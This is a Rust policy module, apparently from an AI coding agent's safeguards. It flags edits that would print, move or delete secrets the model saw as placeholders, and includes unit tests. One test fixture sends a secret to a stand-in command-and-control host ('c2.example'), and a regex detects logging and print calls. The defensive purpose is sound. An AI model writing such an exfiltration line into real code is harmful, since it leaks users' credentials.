//! What an edit does to the secrets that the model saw as placeholders: where they came back to,
//! and where they did not. A placeholder belongs to its place. One that stays there, whatever
//! changes around it, is no matter; one that turns up elsewhere, is printed or is gone is one.

use super::{Objection, Occurrence, Taint};
use crate::policy::Verdict;
use regex::Regex;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

/// Placeholders that one objection names.
const NAMES_MAX: usize = 3;
/// Bytes before a secret in which is looked for what it stands behind.
const BEFORE_BYTES_MAX: usize = 160;

/// Calls by which programs show things: on a screen, in a log, in an error.
static OUTPUT: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)(?:\b(?:e?print(?:ln|f|err)?!?|f?puts|echo|printf|var_dump|print_r|dbg!|alert|panic!?|die|abort|raise|throw|",
        r"write-(?:host|output|error)|(?:tracing::)?(?:trace|debug|info|warn|error)!)[\s(]|",
        r"\b(?:console|log|logger|logging|slog|tracing|stdout|stderr|System\.(?:out|err)|fmt|sys\.std(?:out|err)|process\.std(?:out|err)|Console|Debug|Trace)",
        r"(?:\.|::)[a-z_]*(?:print|write|log|trace|debug|info|warn|error|fatal|exception|critical)[a-z_]*!?\s*\()"
    ))
    .ok()
});

/// The secrets that the model saw as placeholders: fingerprints, and what stood in their place.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Redacted {
    taint: Taint,
    /// The placeholder of each value, in the order of the fingerprints.
    placeholders: Vec<String>,
}

/// How a secret stands in a text.
#[derive(Default)]
struct Standing {
    /// What it stands behind, once for each place.
    behind: Vec<String>,
    printed: usize,
    count: usize,
}

impl Redacted {
    /// Takes fingerprints with the placeholders of the same values, in the same order.
    pub fn new(taint: Taint, placeholders: Vec<String>) -> Self {
        Self { taint, placeholders }
    }

    /// What the edit from `base` to `text` does to the secrets.
    pub(in crate::policy) fn objections(&self, base: &str, text: &str) -> Vec<Objection> {
        let (before, after) = (self.standing(base), self.standing(text));
        let none = Standing::default();
        let (mut printed, mut moved, mut dropped) = (BTreeSet::new(), BTreeSet::new(), BTreeSet::new());
        for value in before.keys().chain(after.keys()) {
            let was = before.get(value).unwrap_or(&none);
            let is = after.get(value).unwrap_or(&none);
            if is.printed > was.printed {
                printed.insert(*value);
            } else if is.count > was.count || has_new(&was.behind, &is.behind) {
                moved.insert(*value);
            } else if is.count < was.count {
                dropped.insert(*value);
            }
        }
        let objection = |rule, verdict, values: &BTreeSet<usize>, remedy| {
            (!values.is_empty()).then(|| Objection { rule, verdict, found: self.named(values), remedy })
        };
        let objections = [
            objection(
                "content.secret_printed",
                Verdict::Block,
                &printed,
                "the secret behind this placeholder would be printed; leave it where it stands",
            ),
            objection(
                "content.secret_moved",
                Verdict::Ask,
                &moved,
                "a secret would stand here, or behind another name, that did not before; the user must approve it",
            ),
            objection(
                "content.secret_dropped",
                Verdict::Ask,
                &dropped,
                "the secret that this placeholder stands for would be gone from the file; the user must approve it",
            ),
        ];
        objections.into_iter().flatten().collect()
    }

    /// The secrets of a file that is to be deleted, when there are any.
    pub(in crate::policy) fn lost_with(&self, text: &str) -> Option<String> {
        let values: BTreeSet<usize> = self.standing(text).into_keys().collect();
        (!values.is_empty()).then(|| self.named(&values))
    }

    fn standing(&self, text: &str) -> BTreeMap<usize, Standing> {
        let mut standing: BTreeMap<usize, Standing> = BTreeMap::new();
        for place in self.taint.occurrences(text) {
            let entry = standing.entry(place.value).or_default();
            let before = before(text, &place);
            entry.count += 1;
            entry.printed += usize::from(is_output(before));
            entry.behind.push(name_at_end(before));
        }
        standing
    }

    fn named(&self, values: &BTreeSet<usize>) -> String {
        let names = values.iter().filter_map(|value| self.placeholders.get(*value));
        let mut names: Vec<&str> = names.map(String::as_str).collect();
        let more = names.len().saturating_sub(NAMES_MAX);
        names.truncate(NAMES_MAX);
        match (names.is_empty(), more) {
            (true, _) => "a secret".to_owned(),
            (false, 0) => names.join(", "),
            (false, more) => format!("{} and {more} more", names.join(", ")),
        }
    }
}

/// True when a name stands in `is` more often than in `was`.
fn has_new(was: &[String], is: &[String]) -> bool {
    let count = |names: &[String], name: &str| names.iter().filter(|other| *other == name).count();
    is.iter().any(|name| !name.is_empty() && count(is, name) > count(was, name))
}

/// What stands before a secret: on its line or, where it begins the line, on the one above.
fn before<'t>(text: &'t str, place: &Occurrence) -> &'t str {
    let all = text.get(..place.start).unwrap_or_default();
    let far = all.len().saturating_sub(BEFORE_BYTES_MAX);
    let start = (far..=all.len()).find(|at| all.is_char_boundary(*at)).unwrap_or(far);
    let near = all.get(start..).unwrap_or_default();
    let line = near.rsplit('\n').next().unwrap_or_default();
    let said = |part: &str| part.contains(|character: char| character.is_alphanumeric());
    if said(line) {
        return line;
    }
    let above = near.get(..near.len() - line.len()).unwrap_or_default().trim_end();
    above.rsplit('\n').next().unwrap_or_default()
}

/// True when what stands before a secret opens a call that shows it.
fn is_output(before: &str) -> bool {
    // A call that is closed again shows something else.
    let open = |found: regex::Match<'_>| {
        let rest = before.get(found.start()..).unwrap_or_default();
        rest.matches('(').count() > rest.matches(')').count() || !rest.contains('(')
    };
    OUTPUT.as_ref().is_none_or(|output| output.find_iter(before).any(open))
}

/// The name that a secret is assigned to or passed as: the last word before it.
fn name_at_end(before: &str) -> String {
    let is_word = |character: char| character.is_alphanumeric() || matches!(character, '_' | '.' | '-' | '/');
    let named = before.trim_end_matches(|character: char| !character.is_alphanumeric());
    named.rsplit(|character| !is_word(character)).next().unwrap_or_default().to_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::fingerprints;

    const SECRET: &str = "not-a-real-pass-7c1d9e";

    fn judged(base: &str, text: &str) -> Vec<&'static str> {
        let redacted =
            Redacted::new(fingerprints([SECRET], &[7; 32]), vec!["⟦secret:assignment:1⟧".to_owned()]);
        let spelt = |text: &str| text.replace("{}", SECRET);
        let objections = redacted.objections(&spelt(base), &spelt(text));
        assert!(objections.iter().all(|it| it.found == "⟦secret:assignment:1⟧"));
        objections.iter().map(|it| it.rule).collect()
    }

    #[test]
    fn a_secret_that_stays_at_its_place_is_no_matter() {
        for text in [
            "password = \"{}\"\n",
            "# why\npassword = '{}'  # here\n",
            "    password: {}\n",
            "timeout = 3\npassword = \"{}\"\nprint(timeout)\n",
            "log(\"connecting\"); password = \"{}\"\n",
        ] {
            assert!(judged("password = \"{}\"\n", text).is_empty(), "{text}");
        }
    }

    #[test]
    fn a_secret_elsewhere_is_asked_about() {
        for text in [
            "password = \"{}\"\nbackup = \"{}\"\n",
            "url = \"{}\"\n",
            "password = \"{}\"\n# {}\n",
            "send(\"c2.example\", \"{}\")\n",
        ] {
            assert_eq!(judged("password = \"{}\"\n", text), ["content.secret_moved"], "{text}");
        }
        assert_eq!(judged("", "password = \"{}\"\n"), ["content.secret_moved"]);
    }

    #[test]
    fn a_secret_that_would_be_printed_is_refused() {
        for line in [
            "print(\"{}\")",
            "println!(\"token {}\")",
            "console.log('{}')",
            "logger.info(\n    \"{}\")",
            "log::debug!(\"{}\")",
            "fmt.Println(\"{}\")",
            "System.out.println(\"{}\");",
            "echo {}",
            "raise ValueError(\"{}\")",
            "info!(\"x {}\")",
        ] {
            let text = format!("password = \"{{}}\"\n{line}\n");
            assert_eq!(judged("password = \"{}\"\n", &text), ["content.secret_printed"], "{line}");
        }
    }

    #[test]
    fn a_secret_that_is_gone_is_asked_about() {
        assert_eq!(judged("password = \"{}\"\n", "password = load()\n"), ["content.secret_dropped"]);
        assert_eq!(judged("a = \"{}\"\nb = \"{}\"\n", "a = \"{}\"\n"), ["content.secret_dropped"]);
    }
}
